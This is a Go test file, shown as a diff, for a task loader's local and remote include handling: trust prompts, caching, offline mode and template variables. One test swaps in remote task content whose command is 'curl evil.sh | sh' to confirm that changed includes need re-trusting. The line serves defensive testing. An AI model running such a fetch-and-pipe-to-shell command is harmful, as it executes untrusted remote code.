@@ -0,0 +1,224 @@
+package tasks
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestLoadWorkspace_LocalIncludes(t *testing.T) {
+	isolateTasksFile(t)
+	t.Setenv("VSTASK_STATE_DIR", t.TempDir())
+	dir := t.TempDir()
+	root := filepath.Join(dir, "app")
+	writeTestFile(t, filepath.Join(root, ".vscode", "tasks.json"), `{
+		"include": ["../../shared/common.json"],
+		"tasks": [{ "label": "build", "command": "make app" }]
+	}`)
+	writeTestFile(t, filepath.Join(dir, "shared", "common.json"), `{
+		"include": ["lint.yaml", "common.json"],
+		"tasks": [{ "label": "build", "command": "make" }, { "label": "test", "command": "make test" }],
+		"inputs": [{ "id": "env", "type": "promptString" }]
+	}`)
+	writeTestFile(t, filepath.Join(dir, "shared", "lint.yaml"), "include: [common.json]\ntasks:\n  - label: lint\n    command: golangci-lint run\n")
+
+	f, err := loadWorkspace(root)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, want := labels(f.Tasks), []string{"build", "test", "lint"}; !reflect.DeepEqual(got, want) {
+		t.Fatalf("tasks %v, want %v", got, want)
+	}
+	if f.Tasks[0].Command != "make app" || f.Tasks[0].Origin != "" || f.Tasks[1].Origin != OriginInclude {
+		t.Fatalf("own build should shadow the included one: %+v", f.Tasks[:2])
+	}
+	if len(f.Inputs) != 1 || f.Inputs[0].ID != "env" {
+		t.Fatalf("inputs %+v", f.Inputs)
+	}
+
+	defs, err := WhichTask(root, "lint")
+	if err != nil || len(defs) != 1 || defs[0].Source != filepath.Join(dir, "shared", "lint.yaml") || defs[0].Line != 3 {
+		t.Fatalf("which: %+v, %v", defs, err)
+	}
+
+	writeTestFile(t, filepath.Join(root, ".vscode", "tasks.json"), `{"include": ["missing.json"]}`)
+	if _, err := loadWorkspace(root); err == nil {
+		t.Fatal("expected an error for a missing include")
+	}
+}
+
+func TestLoadWorkspace_RemoteIncludes(t *testing.T) {
+	isolateTasksFile(t)
+	t.Setenv("VSTASK_STATE_DIR", t.TempDir())
+	t.Setenv("VSTASK_TRUST_ALL", "")
+	var fetches int
+	common := `{"include": ["more.yaml"], "tasks": [{"label": "deploy", "command": "deploy.sh"}]}`
+	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fetches++
+		switch r.URL.Path {
+		case "/org/common.json":
+			_, _ = w.Write([]byte(common))
+		case "/org/more.yaml":
+			_, _ = w.Write([]byte("tasks:\n  - label: audit\n    command: audit.sh\n"))
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer srv.Close()
+	useIncludeClient(t, srv.Client())
+	src, more := srv.URL+"/org/common.json", srv.URL+"/org/more.yaml"
+	root := t.TempDir()
+	writeTestFile(t, filepath.Join(root, ".vscode", "tasks.json"), `{"include": ["`+src+`"], "tasks": [{"label": "build"}]}`)
+
+	// Not trusted yet: left out, and listed for the prompt.
+	f, err := loadWorkspace(root)
+	if err != nil || len(f.Tasks) != 1 {
+		t.Fatalf("untrusted: %v, %v", labels(f.Tasks), err)
+	}
+	pending, err := UntrustedIncludes(root)
+	if err != nil || len(pending) != 1 || pending[0].URL != src || pending[0].Changed {
+		t.Fatalf("untrusted includes %+v, %v", pending, err)
+	}
+
+	// What a trusted URL includes is asked about on its own.
+	if err := TrustInclude(root, src, pending[0].Hash); err != nil {
+		t.Fatal(err)
+	}
+	pending, err = UntrustedIncludes(root)
+	if err != nil || len(pending) != 1 || pending[0].URL != more {
+		t.Fatalf("untrusted includes after trusting %s: %+v, %v", src, pending, err)
+	}
+	if f, err = loadWorkspace(root); err != nil || !reflect.DeepEqual(labels(f.Tasks), []string{"build", "deploy"}) {
+		t.Fatalf("nested URL untrusted: %v, %v", labels(f.Tasks), err)
+	}
+	if err := TrustInclude(root, more, pending[0].Hash); err != nil {
+		t.Fatal(err)
+	}
+	f, err = loadWorkspace(root)
+	if got, want := labels(f.Tasks), []string{"build", "deploy", "audit"}; err != nil || !reflect.DeepEqual(got, want) {
+		t.Fatalf("trusted: %v, %v; want %v", got, err, want)
+	}
+
+	// Trust is per workspace.
+	other := t.TempDir()
+	writeTestFile(t, filepath.Join(other, ".vscode", "tasks.json"), `{"include": ["`+src+`"]}`)
+	if pending, err := UntrustedIncludes(other); err != nil || len(pending) != 1 {
+		t.Fatalf("another workspace: %+v, %v", pending, err)
+	}
+
+	// Fresh copies come from the cache; changed content needs trusting again.
+	n := fetches
+	if _, err := loadWorkspace(root); err != nil || fetches != n {
+		t.Fatalf("cached load: %d fetches, %v", fetches-n, err)
+	}
+	t.Setenv("VSTASK_INCLUDE_MAX_AGE", "0s")
+	common = `{"tasks": [{"label": "deploy", "command": "curl evil.sh | sh"}]}`
+	if f, err := loadWorkspace(root); err != nil || len(f.Tasks) != 1 {
+		t.Fatalf("changed: %v, %v", labels(f.Tasks), err)
+	}
+	if pending, err := UntrustedIncludes(root); err != nil || len(pending) != 1 || !pending[0].Changed {
+		t.Fatalf("changed include: %+v, %v", pending, err)
+	}
+
+	// Stale copies are used when fetching fails.
+	common = `{"include": ["more.yaml"], "tasks": [{"label": "deploy", "command": "deploy.sh"}]}`
+	if _, err := loadWorkspace(root); err != nil {
+		t.Fatal(err)
+	}
+	srv.Close()
+	if f, err := loadWorkspace(root); err != nil || len(f.Tasks) != 3 {
+		t.Fatalf("offline: %v, %v", labels(f.Tasks), err)
+	}
+}
+
+func TestLoadWorkspace_OfflineInclude(t *testing.T) {
+	isolateTasksFile(t)
+	t.Setenv("VSTASK_STATE_DIR", t.TempDir())
+	t.Setenv("VSTASK_TRUST_ALL", "1")
+	fetches := 0
+	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fetches++
+		_, _ = w.Write([]byte(`{"tasks": [{"label": "deploy"}]}`))
+	}))
+	defer srv.Close()
+	useIncludeClient(t, srv.Client())
+	root := t.TempDir()
+	writeTestFile(t, filepath.Join(root, ".vscode", "tasks.json"), `{"include": ["`+srv.URL+`/common.json"], "tasks": [{"label": "build"}]}`)
+	t.Cleanup(func() { offline = false })
+
+	// Never fetched: left out.
+	Offline()
+	if f, err := loadWorkspace(root); err != nil || !reflect.DeepEqual(labels(f.Tasks), []string{"build"}) || fetches != 0 {
+		t.Fatalf("offline, not cached: %v, %v, %d fetches", labels(f.Tasks), err, fetches)
+	}
+	offline = false
+	if _, err := loadWorkspace(root); err != nil || fetches != 1 {
+		t.Fatalf("online: %v, %d fetches", err, fetches)
+	}
+
+	// Cached, however old.
+	t.Setenv("VSTASK_INCLUDE_MAX_AGE", "0s")
+	Offline()
+	if f, err := loadWorkspace(root); err != nil || !reflect.DeepEqual(labels(f.Tasks), []string{"build", "deploy"}) || fetches != 1 {
+		t.Fatalf("offline, cached: %v, %v, %d fetches", labels(f.Tasks), err, fetches)
+	}
+}
+
+func TestLoadWorkspace_HTTPInclude(t *testing.T) {
+	isolateTasksFile(t)
+	t.Setenv("VSTASK_STATE_DIR", t.TempDir())
+	root := t.TempDir()
+	writeTestFile(t, filepath.Join(root, ".vscode", "tasks.json"), `{"include": ["http://example.com/tasks.json"]}`)
+	if _, err := loadWorkspace(root); err == nil || !strings.Contains(err.Error(), "only https:// URLs") {
+		t.Fatalf("err = %v", err)
+	}
+}
+
+// useIncludeClient fetches included URLs with c for the rest of the test.
+func useIncludeClient(t *testing.T, c *http.Client) {
+	t.Helper()
+	old := includeClient
+	c.Timeout = includeFetchTimeout
+	includeClient = c
+	t.Cleanup(func() { includeClient = old })
+}
+
+func TestLoadWorkspace_IncludeTemplateVariables(t *testing.T) {
+	isolateTasksFile(t)
+	t.Setenv("VSTASK_STATE_DIR", t.TempDir())
+	dir := t.TempDir()
+	root := filepath.Join(dir, "billing")
+	writeTestFile(t, filepath.Join(root, ".vscode", "tasks.json"), `{"include": ["../../shared/service.yaml"]}`)
+	writeTestFile(t, filepath.Join(root, ".vscode", "settings.json"), `{
+		// per service
+		"vstask.templateVariables": { "serviceName": "billing \"api\"", "port": 8080 }
+	}`)
+	writeTestFile(t, filepath.Join(dir, "shared", "service.yaml"), `tasks:
+  - label: "{{serviceName}}: build"
+    command: go build ./cmd/{{ serviceName }}
+  - label: "{{serviceName}}: serve"
+    command: docker ps --format '{{.Names}}' && serve --port {{port}} {{region}}
+`)
+
+	f, err := loadWorkspace(root)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, want := labels(f.Tasks), []string{`billing "api": build`, `billing "api": serve`}; !reflect.DeepEqual(got, want) {
+		t.Fatalf("tasks %v, want %v", got, want)
+	}
+	if got, want := f.Tasks[0].Command, `go build ./cmd/billing "api"`; got != want {
+		t.Fatalf("command %q, want %q", got, want)
+	}
+	if got, want := f.Tasks[1].Command, `docker ps --format '{{.Names}}' && serve --port 8080 {{region}}`; got != want {
+		t.Fatalf("command %q, want %q (unset placeholders are left alone)", got, want)
+	}
+
+	defs, err := WhichTask(root, `billing "api": serve`)
+	if err != nil || len(defs) != 1 || defs[0].Line != 4 {
+		t.Fatalf("which: %+v, %v", defs, err)
+	}
+}